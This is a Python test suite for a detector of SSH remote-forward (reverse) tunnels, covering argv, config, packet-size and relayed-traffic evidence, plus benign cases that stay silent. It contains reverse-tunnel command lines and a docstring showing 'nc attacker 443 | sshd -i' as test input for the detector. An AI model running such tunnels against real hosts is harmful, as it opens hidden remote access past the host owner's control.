"""The detector on told stories: each kind of evidence alone and together, who is named, and what stays silent."""

from __future__ import annotations

import pytest

from controlplane.detectors import ssh_outbound, ssh_remote_forward
from controlplane.model import ProcessKey
from controlplane.pipeline import Pipeline
from rubicon.v1 import event_pb2, flow_pb2
from tests.controlplane.builders import HOST, key, tcp
from tests.controlplane.detectors.story import CRITICAL, HIGH, LOGIN, MEDIUM, OPENSSH, PIPE, ROOT, Story


@pytest.fixture
def story() -> Story:
    return Story()


def test_argv_counts_from_the_banner_on(story: Story) -> None:
    client = story.run(200, "worker", "-NR", "9000:127.0.0.1:8000", "x")
    assert story.alerts() == []
    story.ssh(client, login=False)
    alert = story.alert()
    assert alert.severity == HIGH
    assert alert.process is not None
    assert alert.process.key == client
    assert story.kinds() == {"argv"}
    assert alert.flow is not None
    assert alert.flow.destination == "203.0.113.9:443"
    (item,) = [item for item in alert.evidence if item.kind == "argv"]
    assert item.fields["forwards"] == "9000 → 127.0.0.1:8000"
    assert item.record is not None


def test_argv_without_ssh_is_nothing(story: Story) -> None:
    for pid, argv in enumerate(
        (("grep", "-R", "9000:h:80"), ("chown", "-R", "1000:1000", "d"), ("ssh", "-R", "1:h:2", "x"))
    ):
        process = story.run(200 + pid, *argv)
        story.unix(process, "/run/nscd/socket")
    web = story.run(300, "curl", "-R", "1080", "x")
    flow = story.connect(web, 5)
    story.send(web, flow, b"\x16\x03\x01 SSH-2.0-OpenSSH")
    story.send(web, flow, b"SSH-2.0-OpenSSH_9\r\n", outbound=False)
    assert story.alerts() == []
    assert story.alerts("ssh-outbound") == []


def test_config(story: Story) -> None:
    client = story.run(200, "worker")
    story.ssh(client)
    story.config(client, "9000 127.0.0.1:8000")
    assert story.alert().severity == HIGH
    assert story.kinds() == {"config"}


@pytest.mark.parametrize("first", ["config", "ssh"])
def test_config_that_may_apply_is_medium_until_sizes_agree(story: Story, first: str) -> None:
    client = story.run(200, "ssh", "x")
    if first == "config":
        story.config(client, "9000 h:80", may=True)
        flow = story.ssh(client)
    else:
        flow = story.ssh(client)
        story.config(client, "9000 h:80", may=True)
    assert story.alert().severity == MEDIUM
    story.packets(client, flow, 68, 60)
    assert story.alert().severity == HIGH
    assert story.kinds() == {"config", "wire"}


def test_config_of_another_implementation_does_not_count(story: Story) -> None:
    client = story.run(200, "python3", "fetch.py")
    story.ssh(client, banner=b"SSH-2.0-paramiko_3.4\r\n")
    story.config(client, "9000 h:80")
    assert story.alerts() == []


def test_empty_config_is_nothing(story: Story) -> None:
    client = story.run(200, "ssh", "x")
    story.config(client, control_path="/tmp/s")
    story.ssh(client)
    assert story.alerts() == []


def test_sizes_alone_are_medium(story: Story) -> None:
    client = story.run(200, "worker")
    flow = story.ssh(client)
    story.packets(client, flow, 68, -552, 112)
    assert story.alert().severity == MEDIUM
    assert story.kinds() == {"wire"}


def test_confirmed_use_is_high_and_relayed_bytes_critical(story: Story) -> None:
    client = story.run(200, "worker")
    flow = story.ssh(client)
    story.packets(client, flow, 112, -552, -200)
    story.wait(5000)
    story.packet(client, flow, 100, outbound=False)
    near = story.connect(client, 2, "127.0.0.1", 8000)
    assert story.alerts() == []
    story.packet(client, flow, 44, outbound=True)
    assert story.alert().severity == HIGH
    story.packets(client, flow, -44)
    story.packets(client, near, 7)
    assert story.alert().severity == CRITICAL
    assert story.kinds() == {"behaviour"}
    item = [item for item in story.alert().evidence if item.kind == "behaviour"][-1]
    assert item.fields["target"] == "127.0.0.1:8000"


def test_paramiko_confirms_before_it_connects(story: Story) -> None:
    client = story.run(200, "python3", "work.py")
    flow = story.ssh(client, banner=b"SSH-2.0-paramiko_3.4\r\n")
    story.packets(client, flow, -100, 44)
    near = story.connect(client, 2, "127.0.0.1", 8000)
    story.packets(client, flow, -44)
    story.packets(client, near, 7)
    assert story.alerts() == []
    story.packets(client, near, -1000)
    story.packets(client, flow, 1036)
    assert story.alert().severity == CRITICAL


def test_a_program_that_reports_what_it_reads_is_silent(story: Story) -> None:
    """Output comes in over SSH, then it calls an API over TLS, then it types the next command."""
    client = story.run(200, "python3", "agent.py")
    flow = story.ssh(client, banner=b"SSH-2.0-paramiko_3.4\r\n")
    for cookie in range(10, 20):
        story.packet(client, flow, 436, outbound=False)
        api = story.connect(client, cookie, "198.51.100.7", 443)
        story.packets(client, api, 517, -2800, 80, -1400)
        story.packets(client, flow, 44, -52)
    assert story.alerts() == []


def test_a_fleet_of_connections_is_silent(story: Story) -> None:
    """One program works on host A and opens connections to others; its next session on A has a confirmation's size."""
    client = story.run(200, "python3", "fleet.py")
    flow = story.ssh(client, banner=b"SSH-2.0-AsyncSSH_2.18\r\n")
    for cookie in range(10, 20):
        story.packet(client, flow, 436, outbound=False)
        other = tcp(cookie, "198.51.100.7", 22)
        story.tell(story.kernel.flow(client, "connect", other))
        story.packets(client, flow, 44)
        story.tell(story.kernel.flow(client, "establish", other))
        story.send(client, other, b"SSH-2.0-AsyncSSH_2.18\r\n")
        story.packets(client, flow, -44)
    assert story.alerts() == []


def test_accepted_connections_are_not_the_far_sides_wish(story: Story) -> None:
    client = story.run(200, "python3", "proxy.py")
    flow = story.ssh(client)
    story.packet(client, flow, 100, outbound=False)
    inbound = tcp(7, direction=flow_pb2.FLOW_DIRECTION_INBOUND)
    story.tell(story.kernel.flow(client, "establish", inbound))
    near = story.connect(client, 2, "127.0.0.1", 8000)
    story.packets(client, flow, 44, -44)
    story.packets(client, near, 7)
    assert story.alerts() == []


def test_display_counts_only_beside_other_evidence(story: Story) -> None:
    client = story.run(200, "ssh", "-X", "x")
    flow = story.ssh(client)
    story.packet(client, flow, 100, outbound=False)
    story.connect(client, 2, "127.0.0.1", 6010)
    story.packets(client, flow, 44)
    assert story.alerts() == []


def test_background_child_holds_the_tunnel(story: Story) -> None:
    """ssh -f: the connection's maker forks after login and ends."""
    client = story.run(200, "ssh", "-fNR", "9000:h:80", "x")
    flow = story.ssh(client)
    child = story.fork(201, client)
    story.tell(story.kernel.exit(client))
    alert = story.alert()
    assert alert.process is not None
    assert alert.process.key == child
    assert "process" in story.kinds()
    story.used(child, flow, owner=client)
    assert story.alert().severity == CRITICAL
    assert story.alert().process.key == child  # type: ignore[union-attr]


def test_a_grandchild_that_executed_something_else_does_not(story: Story) -> None:
    client = story.run(200, "ssh", "-R", "9000:h:80", "x")
    story.ssh(client)
    story.run(201, "sh", "-c", "true", parent=client)
    story.tell(story.kernel.exit(client))
    assert story.alert().process.key == client  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("master", "asker", "unix"),
    [
        (
            ("ssh", "-M", "-S", "/tmp/cm", "-N", "x"),
            ("ssh", "-S", "/tmp/cm", "-O", "forward", "-R", "9:h:80", "x"),
            "/tmp/cm",
        ),
        (("ssh", "-M", "-S", "cm", "-N", "x"), ("ssh", "-Oforward", "-Scm", "-R9:h:80", "x"), ""),
        (("ssh", "-MNS/tmp/cm-%C", "x"), ("ssh", "-S", "/tmp/cm-%C", "-R", "9:h:80", "x"), "/tmp/cm-0123abc"),
        (
            ("ssh", "-oControlPath=/tmp/cm", "-oControlMaster=auto", "x"),
            ("w", "-oControlPath=/tmp/cm", "-R", "9:h:80", "x"),
            "/tmp/cm",
        ),
    ],
)
def test_control_master(story: Story, master: tuple[str, ...], asker: tuple[str, ...], unix: str) -> None:
    holder = story.run(200, *master)
    story.ssh(holder)
    assert story.alerts() == []
    process = story.run(201, *asker)
    if unix:
        story.unix(process, unix)
    alert = story.alert()
    assert alert.severity == HIGH
    assert alert.process.key == holder  # type: ignore[union-attr]
    assert "pid 201" in next(item.text for item in alert.evidence if item.kind == "argv")


def test_control_master_by_configuration(story: Story) -> None:
    holder = story.run(200, "ssh", "-N", "x")
    story.ssh(holder)
    story.config(holder, control_path="/root/.ssh/cm-%C")
    process = story.run(201, "ssh", "-O", "forward", "-R", "9:h:80", "x")
    story.unix(process, "/root/.ssh/cm-abc")
    story.config(process, control_path="/root/.ssh/cm-%C")
    assert story.alert().process.key == holder  # type: ignore[union-attr]


def test_control_master_is_not_somebody_elses(story: Story) -> None:
    holder = story.run(200, "ssh", "-S", "/tmp/other", "-M", "x")
    story.ssh(holder)
    process = story.run(201, "ssh", "-S", "/tmp/cm", "-R", "9:h:80", "x")
    story.unix(process, "/tmp/cm")
    asker = story.run(202, "ssh", "-S", "/tmp/cm", "-O", "check", "x")
    story.unix(asker, "/tmp/cm")
    assert story.alerts() == []


def test_a_request_that_was_not_answered_is_nobodys(story: Story) -> None:
    """The first client of a ControlPath finds no master and connects itself; whoever comes later did not ask."""
    first = story.run(200, "ssh", "-S", "/tmp/cm", "-oControlMaster=auto", "-R", "9:h:80", "x")
    story.unix(first, "/tmp/cm")
    story.ssh(first)
    assert story.alert().process.key == first  # type: ignore[union-attr]
    story.tell(story.kernel.flow(first, "close", tcp(1)))
    story.tell(story.kernel.exit(first))
    second = story.run(201, "ssh", "-S", "/tmp/cm", "-oControlMaster=auto", "x")
    story.ssh(second, 2)
    assert story.alert().process.key == first  # type: ignore[union-attr]


@pytest.mark.parametrize("proxy", [("ssh", "-W", "[x]:22", "jump"), ("nc", "-X", "connect", "x", "22")])
def test_the_proxys_socket_carries_the_tunnel(story: Story, proxy: tuple[str, ...]) -> None:
    client = story.run(200, "worker", "-J", "jump", "-R", "9:h:80", "x")
    shell = story.run(201, "sh", "-c", "exec " + " ".join(proxy), parent=client, stdio=PIPE)
    story.tell(story.kernel.exec(shell, *proxy, parent=client, stdio=story.events[-1].exec.stdio))
    story.ssh(shell)
    assert story.alert().process.key == shell  # type: ignore[union-attr]
    assert story.kinds() == {"argv"}


@pytest.mark.parametrize(
    "outer",
    [("rsync", "-R", "2024", "x:/archive"), ("scp", "-R", "1000:2000", "x:"), ("make", "-R", "2024"), ("git", "fetch")],
)
def test_a_client_below_another_tool_is_no_proxy(story: Story, outer: tuple[str, ...]) -> None:
    tool = story.run(200, *outer)
    client = story.run(201, "ssh", "x", "rsync", "--server", "-R", "9:h:80", parent=tool, stdio=PIPE)
    story.ssh(client)
    assert story.alerts() == []


@pytest.mark.parametrize("server_first", [False, True])
def test_serving_on_a_connection_of_its_own(story: Story, server_first: bool) -> None:
    """`nc attacker 443 | sshd -i`: the agent connects out and is the server."""
    process = story.run(200, "nc", "203.0.113.9", "443")
    flow = story.connect(process, 1)
    story.send(process, flow, OPENSSH)
    story.send(process, flow, OPENSSH, outbound=False)
    exchange = (1000).to_bytes(4, "big") + b"\x04\x14" + bytes(998)
    story.send(process, flow, exchange)
    story.send(process, flow, exchange, outbound=False)
    if server_first:
        story.send(process, flow, (200).to_bytes(4, "big") + b"\x04\x1f" + bytes(198))
    else:
        story.send(process, flow, (44).to_bytes(4, "big") + b"\x04\x1e" + bytes(42), outbound=False)
    alert = story.alert()
    assert alert.severity == HIGH
    assert "served" in alert.title
    assert story.kinds() == {"wire"}


def test_inbound_ssh_is_not_looked_at(story: Story) -> None:
    daemon = story.run(200, "sshd", "-R", "9:h:80")
    flow = tcp(1, direction=flow_pb2.FLOW_DIRECTION_INBOUND)
    story.tell(story.kernel.flow(daemon, "establish", flow))
    story.send(daemon, flow, OPENSSH)
    assert story.alerts() == []
    assert story.alerts("ssh-outbound") == []


def test_evidence_comes_before_the_first_relayed_byte(story: Story) -> None:
    client = story.run(200, "ssh", "-R", "9000:h:80", "x")
    flow = story.ssh(client)
    story.packets(client, flow, 68, 60)
    asked = {item.kind: item.wall_ns for item in story.alert().evidence}
    story.used(client, flow)
    first = next(event.time_ns for event in story.events if event.HasField("packet") and event.packet.flow.cookie == 2)
    assert all(wall_ns < first + HOST.clock_offset_ns for wall_ns in asked.values())
    assert story.kinds() == {"argv", "wire", "behaviour"}


def test_replay_gives_the_same_alerts(story: Story) -> None:
    client = story.run(200, "ssh", "-R", "9000:h:80", "x")
    story.used(client, story.ssh(client))
    again = Pipeline([ssh_outbound, ssh_remote_forward])
    alerts = again.restore(HOST, story.events).alert_of
    assert {(a.id, a.severity, len(a.evidence)) for a in alerts.values()} == {
        (a.id, a.severity, len(a.evidence))
        for name in ("ssh-remote-forward", "ssh-outbound")
        for a in story.alerts(name)
    }


def test_outbound_ssh_is_a_fact_once_a_process(story: Story) -> None:
    client = story.run(200, "python3", "fleet.py")
    story.ssh(client, 1)
    story.ssh(client, 2)
    (alert,) = story.alerts("ssh-outbound")
    assert alert.severity == ssh_outbound.DETECTOR.severity
    assert story.alerts() == []


def test_memory_is_bounded() -> None:
    story = Story()
    memory = ssh_remote_forward.Memory()
    view = story.pipeline.view(story.kernel.agent)
    assert view is not None
    for number in range(3000):
        process = ProcessKey(1000 + number, number + 1)
        flow = tcp(10_000 + number)
        for event in (
            story.kernel.exec(process, "ssh", "-O", "forward", "-R", "9:h:80", "x"),
            story.kernel.event(process, ssh_config=event_pb2.SshConfig(remote_forwards=["9 h:80"])),
            story.kernel.event(process, unix_connect=event_pb2.UnixConnect(path=f"/{number}")),
            story.kernel.flow(process, "connect", flow),
            story.kernel.flow(process, "payload", flow, outbound=True, data=OPENSSH, length=len(OPENSSH)),
            *(story.kernel.flow(process, "packet", flow, outbound=out, length=size) for out, size in LOGIN),
            story.kernel.flow(process, "packet", flow, outbound=False, length=500),
            story.kernel.flow(process, "connect", tcp(90_000 + number)),
        ):
            list(ssh_remote_forward.detect(event, view, memory))
    assert len(memory.conversations.by_cookie) <= 256
    assert len(memory.cases) <= 256
    assert max(len(memory.execs), len(memory.configs), len(memory.unix)) <= 512
    assert key(100) == ROOT
